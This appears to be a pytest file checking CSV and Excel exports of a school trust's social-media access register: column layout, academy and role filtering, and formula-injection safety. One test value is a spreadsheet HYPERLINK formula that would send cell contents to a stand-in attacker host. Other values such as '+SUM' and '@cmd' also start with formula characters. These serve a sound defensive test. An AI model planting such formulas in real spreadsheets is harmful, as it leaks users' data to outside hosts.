"""Register exports: TKAT's Appendix 1 columns exactly, status columns after, and no cell a formula."""

import csv
import io

import openpyxl

from modules.core.extensions import db
from modules.people.services import upsert_user
from tests.access.factories import account, demo_user, granted
from tests.conftest import demo_email
from tests.helpers import sign_in

APPENDIX_1 = ["Employee (Full name)", "Job title/Dept", "Social Media Account(s)"]
STATUS = ["Role", "Status", "Reason", "Certificate valid until", "Approved by", "Granted on", "Account status"]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _client(app, local, slug):
    client = app.test_client()
    sign_in(client, demo_email(local, slug))
    return client


def _with_grants(slug: str, now):
    acct = account(slug, handle="@NorthPark")
    granted("staff", slug, acct, now=now)
    teacher = demo_user("teacher", slug)
    upsert_user(teacher.trust, email=teacher.email, name=EVIL, job_title="+SUM(1,2)", department="@cmd",
                academy=teacher.academy, line_manager=teacher.line_manager, now=now)
    granted("teacher", slug, acct, role="moderator", now=now)
    db.session.commit()


def test_tkat_csv_has_the_appendix_1_columns_and_is_injection_safe(app, now):
    _with_grants("tkat", now)
    response = _client(app, "comms", "tkat").get("/access/register.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == APPENDIX_1 + STATUS
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["Sam Taylor"][1] == "Teaching Assistant / Learning Support"
    assert by_name["Sam Taylor"][2] == "School website or blog: @NorthPark"
    assert by_name["Sam Taylor"][4] == "Active"
    evil = next(r for r in rows[1:] if "HYPERLINK" in r[0])
    for cell in evil:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert evil[0].startswith("'=")


def test_tkat_xlsx_opens_with_the_appendix_1_columns_text_as_strings_and_dates_typed(app, now):
    _with_grants("tkat", now)
    response = _client(app, "comms", "tkat").get("/access/register.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = book.active
    headers = [c.value for c in sheet[1]]
    assert headers == APPENDIX_1 + STATUS
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            header = headers[cell.column - 1]
            if header in ("Certificate valid until", "Granted on"):
                assert cell.is_date and "mmmm" in cell.number_format, (header, cell.value)
            elif cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
    names = [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)]
    assert EVIL in names  # kept as text, never a formula


def test_other_trusts_use_the_standard_columns(app, now):
    _with_grants("agora", now)
    response = _client(app, "hr", "agora").get("/access/register.csv")
    header = next(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert header == ["Name", "Job title", "Department", "Account", "Account owner"] + STATUS


def test_exports_follow_the_academy_filter_and_scope(app, now):
    _with_grants("tkat", now)
    river = account("tkat", index=1, handle="@Riverside")
    granted("staff2", "tkat", river, now=now)
    db.session.commit()
    comms = _client(app, "comms", "tkat")
    whole = comms.get("/access/register.csv").get_data(as_text=True)
    assert "Jack Wilson" in whole
    north = comms.get(f"/access/register.csv?academy={demo_user('staff', 'tkat').academy_id}").get_data(as_text=True)
    assert "Jack Wilson" not in north and "Sam Taylor" in north
    head = _client(app, "head", "tkat").get("/access/register.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(head.data)).active
    assert "Jack Wilson" not in [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)]
    assert _client(app, "staff", "tkat").get("/access/register.csv").status_code == 403


def test_a_sheet_name_excel_refuses_is_cleaned():
    """A trust short name with characters Excel forbids in a worksheet name still gives a workbook."""
    import io

    import openpyxl

    from modules.access.exports import to_xlsx

    data = to_xlsx(["Name"], [["Sam Taylor"]], title="St Mary's [C/E]: register?")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "St Marys CE register" and sheet["A2"].value == "Sam Taylor"
